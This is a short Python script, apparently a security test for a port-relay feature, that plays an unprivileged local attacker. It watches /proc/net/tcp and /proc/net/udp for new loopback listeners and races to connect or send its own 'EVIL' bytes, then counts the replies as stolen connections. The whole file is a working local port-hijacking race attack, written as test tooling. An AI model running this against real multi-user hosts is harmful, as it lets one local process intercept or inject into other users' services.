"""An unprivileged local process trying to take relayed connections: it watches
/proc/net/tcp and /proc/net/udp for new loopback ports and, at once, connects to every new
listener (TCP) or sends to every new UDP port, with bytes of its own.  Whatever answer
comes back is recorded: "pong EVIL" means its bytes reached the pod's server.  One process
watches TCP, a forked one UDP, each in a tight loop (a window of ~100 us is enough).

usage: relay_thief.py   (runs until stdin closes, at most 60 s; reports on stdout)"""

import os
import select
import socket
import sys
import time

LOOPBACK = "0100007F:"


def new_ports(fd, kind, seen):
    os.lseek(fd, 0, os.SEEK_SET)
    data = b""
    while chunk := os.read(fd, 65536):
        data += chunk
    found = []
    for line in data.decode().splitlines()[1:]:
        parts = line.split()
        if not parts[1].startswith(LOOPBACK) or (kind == "tcp" and parts[3] != "0A"):
            continue
        port = int(parts[1][9:], 16)
        if port not in seen:
            seen.add(port)
            found.append(port)
    return found


def watch(kind, report):
    fd = os.open(f"/proc/net/{kind}", os.O_RDONLY)
    seen = set()
    new_ports(fd, kind, seen)
    tries = stolen = 0
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.setblocking(False)
    deadline = time.monotonic() + 60
    while not select.select([sys.stdin], [], [], 0)[0] and time.monotonic() < deadline:
        for port in new_ports(fd, kind, seen):
            tries += 1
            if kind == "udp":
                try:
                    udp.sendto(b"EVIL", ("127.0.0.1", port))
                except OSError:
                    pass
                continue
            try:
                c = socket.create_connection(("127.0.0.1", port), timeout=1)
                c.sendall(b"EVIL\n")
                answer = c.recv(256)
                c.close()
            except OSError:
                continue
            if answer.startswith(b"pong EVIL"):
                stolen += 1
                print(f"tcp {port}: {answer!r}", file=report, flush=True)
        while True:
            try:
                data = udp.recv(256)
            except OSError:
                break
            if data.startswith(b"pong EVIL"):
                stolen += 1
                print(f"udp: {data!r}", file=report, flush=True)
    print(f"{kind} tries {tries} stolen {stolen}", file=report, flush=True)


print("watching", flush=True)
child = os.fork()
if child == 0:
    watch("udp", sys.stdout)
    os._exit(0)
watch("tcp", sys.stdout)
os.waitpid(child, 0)
